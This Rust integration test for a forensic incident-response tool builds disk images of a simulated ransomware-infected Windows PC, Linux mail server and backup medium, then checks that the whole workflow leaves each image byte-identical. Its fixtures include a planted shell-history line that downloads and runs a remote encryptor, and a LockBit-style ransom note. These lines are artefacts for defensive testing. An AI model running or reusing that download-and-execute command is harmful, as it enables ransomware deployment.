//! Forensic soundness, proven: an NTFS image of an infected Windows machine, an ext4 image of a
//! Linux server and an ext4 backup medium go through the whole workflow — sources, collect, scan,
//! analyze, isolation plan and network sheet, backup verify, report, export and its check —
//! and every image is byte-identical afterwards. (Only an explicit offline isolation changes a
//! disk, and only the journaled values: tests/it/offline.rs.)

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

use crate::helpers::{age_keys, files_of, sh, shodo, verify};
use crate::images::{loops_of, ntfs_image_with, sha_file};

/// An ext4 image holding `dir`.
fn ext4_image(dir: &Path, img: &Path, mib: u64) {
    fs::File::create(img).unwrap().set_len(mib << 20).unwrap();
    sh("mkfs.ext4", &["-F", "-q", "-d", dir.to_str().unwrap(), img.to_str().unwrap()]);
}

fn run(args: &[&str], case: &Path) -> (i32, String) {
    let out = shodo().args(args).arg("--case").arg(case).output().unwrap();
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (out.status.code().unwrap_or(-1), text)
}

/// Runs `f` on the backup image mounted read-only (a read-only loop device, no journal replay).
fn with_mounted<T>(img: &Path, mnt: &Path, f: impl FnOnce(&Path) -> T) -> T {
    struct Detach(String, PathBuf);
    impl Drop for Detach {
        fn drop(&mut self) {
            let _ = Command::new("umount").arg(&self.1).status();
            let _ = Command::new("losetup").args(["-d", &self.0]).status();
        }
    }
    fs::create_dir_all(mnt).unwrap();
    let dev = sh("losetup", &["--find", "--show", "--read-only", img.to_str().unwrap()]).trim().to_string();
    let guard = Detach(dev.clone(), mnt.to_path_buf());
    sh("mount", &["-o", "ro,noload", &dev, mnt.to_str().unwrap()]);
    let out = f(mnt);
    drop(guard);
    out
}

#[test]
fn the_whole_workflow_leaves_every_evidence_and_backup_image_byte_identical() {
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path();
    // The demo's infected Windows machine and backup medium, as real file systems.
    shodo().args(["demo", "--out"]).arg(t.join("demo")).assert().success();
    let windows_files = files_of(&t.join("demo/material/endpoint"));
    let refs: Vec<(&str, &[u8])> = windows_files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    let windows = ntfs_image_with(t, &refs);
    let linux_tree = t.join("linux");
    for (rel, content) in [
        ("etc/hostname", "mail-01\n"),
        ("etc/passwd", "root:x:0:0::/root:/bin/sh\n"),
        ("var/log/auth.log", "Accepted password for root from 192.0.2.99 port 50022 ssh2\n"),
        ("root/.bash_history", "wget http://192.0.2.99/enc && ./enc --all\n"),
        (
            "srv/mail/README_LOCKBIT.txt",
            "All your files are stolen and encrypted. Contact lockbit-support@onionmail.org\n",
        ),
    ] {
        let p = linux_tree.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, content).unwrap();
    }
    let linux = t.join("linux.img");
    ext4_image(&linux_tree, &linux, 32);
    let backup = t.join("backup.img");
    ext4_image(&t.join("demo/material/backup"), &backup, 32);
    let images = [&windows, &linux, &backup];
    let before: Vec<String> = images.iter().map(|i| sha_file(i)).collect();

    let case = t.join("case");
    shodo().args(["case", "init", "--examiner", "鑑識 一郎", "--case"]).arg(&case).assert().success();
    // sources: the images attached read-only, listed, detached.
    for img in [&windows, &linux] {
        let dev = sh("losetup", &["--find", "--show", "--read-only", img.to_str().unwrap()]).trim().to_string();
        let listed = shodo().args(["sources", "--json"]).output().unwrap();
        let _ = Command::new("losetup").args(["-d", &dev]).status();
        let disks: Value = serde_json::from_slice(&listed.stdout).unwrap();
        assert!(disks.to_string().contains(&dev), "{dev} not listed");
    }
    let win = windows.to_str().unwrap();
    let lin = linux.to_str().unwrap();
    let steps: Vec<(Vec<&str>, &[i32])> = vec![
        (vec!["collect", "--endpoint", "PC-GAIRAI-01", "--source", win], &[0]),
        (vec!["collect", "--endpoint", "mail-01", "--source", lin], &[0]),
        (vec!["scan", "--endpoint", "PC-GAIRAI-01", "--source", win], &[1]),
        (vec!["scan", "--endpoint", "mail-01", "--source", lin], &[0, 1]),
        (vec!["analyze", "--endpoint", "PC-GAIRAI-01"], &[1]),
        (vec!["isolate", "plan", "--mode", "offline-windows", "--endpoint", "PC-GAIRAI-01", "--source", win], &[0]),
        (vec!["isolate", "sheet", "--endpoint", "PC-GAIRAI-01"], &[0]),
    ];
    for (args, codes) in &steps {
        let (code, text) = run(args, &case);
        assert!(codes.contains(&code), "{args:?} exited {code}: {text}");
    }
    let verdict = with_mounted(&backup, &t.join("mnt"), |mnt| {
        let (code, text) = run(&["backup", "verify", "--json", mnt.to_str().unwrap()], &case);
        assert!(code == 0 || code == 1, "backup verify exited {code}: {text}");
        text
    });
    assert!(verdict.contains("2026-11-19"), "{verdict}");
    let (code, text) = run(&["report"], &case);
    assert_eq!(code, 0, "{text}");
    let (key, public) = age_keys(t);
    let archive = t.join("export.age");
    let (code, text) = run(&["export", "--to", &public, "--out", archive.to_str().unwrap()], &case);
    assert_eq!(code, 0, "{text}");
    let check = shodo().args(["export", "--verify"]).arg(&archive).arg("--identity").arg(&key).output().unwrap();
    assert_eq!(check.status.code(), Some(0), "{}", String::from_utf8_lossy(&check.stdout));

    // What the workflow found is real, so the images were really read …
    let model: Value = serde_json::from_slice(&fs::read(case.join("reports/report.json")).unwrap()).unwrap();
    let ids: Vec<&str> = model["endpoints"].as_array().unwrap().iter().filter_map(|e| e["id"].as_str()).collect();
    assert_eq!(ids, ["PC-GAIRAI-01", "mail-01"]);
    assert!(model["endpoints"][0]["encrypted_files"].as_u64().unwrap() >= 30, "{}", model["endpoints"][0]);
    assert!(case.join("reports/custody-sheet-PC-GAIRAI-01.ja.html").is_file());
    // … and not one byte of them changed, and nothing is left attached.
    let after: Vec<String> = images.iter().map(|i| sha_file(i)).collect();
    assert_eq!(after, before, "an evidence or backup image changed");
    for img in images {
        assert_eq!(loops_of(img).trim(), "", "{} is still attached", img.display());
    }
    assert_eq!(verify(&case).0, 0);
}
